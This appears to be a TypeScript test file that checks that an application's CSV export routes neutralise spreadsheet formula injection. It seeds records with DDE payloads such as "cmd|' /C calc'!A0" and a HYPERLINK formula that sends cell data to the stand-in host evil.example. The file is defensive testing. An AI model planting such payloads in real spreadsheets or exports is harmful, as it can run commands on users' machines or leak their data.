/** Texts that a spreadsheet would run, through every export of the compiled program, read with every separator that a spreadsheet may use. */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { sign } from "../../server/enrichment/wildix/signature.ts";
import { createYeastarSimulator, DEMO_APP, listenYeastar } from "../../server/presence/index.ts";
import { systemClock } from "../../server/platform/clock.ts";
import { ensureBinary, type RunningBinary, runBinary, startServe } from "../support/binary.ts";
import { temporaryFolder } from "../support/temporary-folder.ts";

const folder = temporaryFolder();
let server: RunningBinary;
let pbx: { close(): Promise<void> } | null = null;
let signed: Record<string, string>;

const AT = 1_721_984_075_000;
/** Every route that answers CSV, with the question that all the texts are in the answer of: a new one is red until it stands here. */
const EXPORTS: Readonly<Record<string, string>> = {
  "/api/v1/enrichment/calls/export": "",
  "/api/v1/enrichment/figures/export": `table=queues&since=${AT}&until=${AT + 3_600_000}`,
  "/api/v1/platform/audit/export": "",
  "/api/v1/presence/log/export": "",
  "/api/v1/presence/plannings/export": "",
};
const SECRET = "webhook-secret";
const HARM = "cmd|' /C calc'!A0";
const FORMULAS = [
  ...["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"='].map((start) => `${start}${HARM}`),
  ...[
    `x;=${HARM}`,
    `x,=${HARM}`,
    `x;"=${HARM}`,
    `x, +${HARM}`,
    `=HYPERLINK("http://evil.example/?"&A1,"more")`,
    `x;@SUM(A1)`,
    `x;;-${HARM}`,
  ],
  `@SUM(1+1)*${HARM}`,
];

beforeAll(async () => {
  await ensureBinary();
  server = await startServe(folder.path, ["--allow-hosts", "127.0.0.1"]);
  const made = await runBinary(["token", "add", "--name", "t", "--role", "admin", "--data", folder.path]);
  signed = { authorization: `Bearer ${made.stdout.trim()}` };
  const headers = { ...signed, "content-type": "application/json" };
  const settings = { method: "PUT", headers, body: JSON.stringify({ webhookSecret: SECRET }) };
  expect((await fetch(`${server.url}/api/v1/enrichment/settings`, settings)).status).toBe(200);
  for (const [index, text] of FORMULAS.entries()) {
    const add = (path: string, body: unknown) =>
      fetch(server.url + path, {
        method: "POST",
        headers: { ...signed, "content-type": "application/json" },
        body: JSON.stringify(body),
      });
    const target = { name: text, project: text, host: "127.0.0.1", port: index + 1, login: text, isEnabled: false };
    expect([text, (await add("/api/v1/cccp/servers", target)).status]).toEqual([text, 201]);
    expect([text, await call(text, index)]).toEqual([text, 200]);
    const token = { name: `${text.slice(0, 55)} ${index}`, role: "viewer", expiresAt: null };
    expect([text, (await add("/api/v1/platform/tokens", token)).status]).toEqual([text, 201]);
  }
  await presence();
});
afterAll(async () => {
  await pbx?.close();
  await server.stop("SIGKILL");
  folder.remove();
});

/** A PBX whose extensions are called so, each with a slot and an override that is written into the log. */
async function presence(): Promise<void> {
  const people = FORMULAS.map((text) => ({ number: text, name: text }));
  const simulator = createYeastarSimulator({ clock: systemClock, people });
  const listening = listenYeastar(simulator, { host: "127.0.0.1", port: 0 });
  pbx = listening;
  const ask = async (method: string, path: string, body?: unknown) => {
    const headers = { ...signed, "content-type": "application/json" };
    const url = `${server.url}/api/v1/presence/${path}`;
    const answer = await fetch(url, { method, headers, body: body === undefined ? null : JSON.stringify(body) });
    expect(answer.status, path).toBeLessThan(300);
    return answer.json();
  };
  // Everything is written down, and nothing has to be waited for at the PBX's pace.
  await ask("PUT", "settings", { isSimulation: true });
  const url = `http://127.0.0.1:${listening.port}`;
  const { id } = await ask("POST", "pbxs", { name: "x", url, clientId: DEMO_APP.clientId, secret: DEMO_APP.secret });
  await ask("POST", `pbxs/${id}/import`);
  const { extensions } = (await ask("GET", "extensions")) as { extensions: { id: number }[] };
  expect(extensions).toHaveLength(FORMULAS.length);
  const slot = { day: 0, startMinute: 480, endMinute: 720, status: "lunch" };
  for (const extension of extensions) await ask("POST", `extensions/${extension.id}/slots`, slot);
  await ask("POST", "overrides", { isForAll: true, status: "off_work", reason: FORMULAS[0] });
  // The engine writes in its turn.
  for (let count = 0; count < FORMULAS.length;) count = (await ask("GET", "log?result=simulated")).entries.length;
}

/** A call whose caller is called so, as the PBX posts it; gives the answer's status. */
async function call(name: string, index: number): Promise<number> {
  const data = {
    id: `call-${index}`,
    caller: { type: "REMOTE", phone: name, name },
    destination: name,
    queueName: name,
    ...{ startTime: AT + index, endCause: "16" },
  };
  const event = { type: "call:end", id: data.id, time: AT + index, data };
  const body = new TextEncoder().encode(JSON.stringify(event));
  const headers = { "content-type": "application/json", "x-signature": sign(SECRET, body) };
  const url = `${server.url}/api/v1/enrichment/webhooks/wildix`;
  return (await fetch(url, { method: "POST", headers, body })).status;
}

/** Cells as a spreadsheet takes them: quotes count at the beginning of a cell, elsewhere they are letters. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let isQuoted = false;
  let isAtStart = true;
  for (let at = 0; at < text.length; at++) {
    const letter = text[at] as string;
    if (isQuoted) {
      if (letter !== '"') cell += letter;
      else if (text[at + 1] === '"') cell += text[++at];
      else isQuoted = false;
    } else if (isAtStart && letter === '"') {
      isQuoted = true;
      isAtStart = false;
    } else if (letter === separator || letter === "\n" || letter === "\r") {
      cells.push(cell);
      cell = "";
      isAtStart = true;
    } else {
      cell += letter;
      isAtStart = false;
    }
  }
  return [...cells, cell];
}

/** Cells that a spreadsheet would run; a negative number is none. */
function formulasIn(text: string): string[] {
  return [",", ";", "\t"].flatMap((separator) =>
    cellsOf(text.replace(/^\ufeff/, ""), separator).filter(
      (cell) => /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+$/.test(cell),
    ),
  );
}

test("the exports are all of them", async () => {
  const document = await (await fetch(`${server.url}/api/docs/openapi.json`, { headers: signed })).json();
  const { paths } = document as { paths: Record<string, unknown> };
  expect(Object.keys(paths).filter((path) => JSON.stringify(paths[path]).includes("text/csv"))).toEqual(
    Object.keys(EXPORTS),
  );
});

test.each(Object.entries(EXPORTS))("no cell of %s is a formula, whatever it is read with", async (path, asked) => {
  for (const query of ["", "separator=;", "mark=true", "separator=;&mark=true"]) {
    const text = await (await fetch(`${server.url}${path}?${asked}&${query}`, { headers: signed })).text();
    expect(text).toContain("calc");
    expect([query, formulasIn(text)]).toEqual([query, []]);
    // Nothing is lost by it: each text is there, behind its apostrophe at most.
    const cells = cellsOf(text, query.includes(";") ? ";" : ",")
      .join("\n")
      .replaceAll("'", "");
    for (const formula of FORMULAS) expect(cells).toContain(formula.replaceAll("'", "").trim());
  }
});

test("the control: as it was typed, each of them would run", () => {
  for (const formula of FORMULAS.filter((text) => !text.startsWith("'"))) {
    expect([formula, formulasIn(`1,2\r\n3,${formula}\r\n`).length > 0]).toEqual([formula, true]);
  }
});
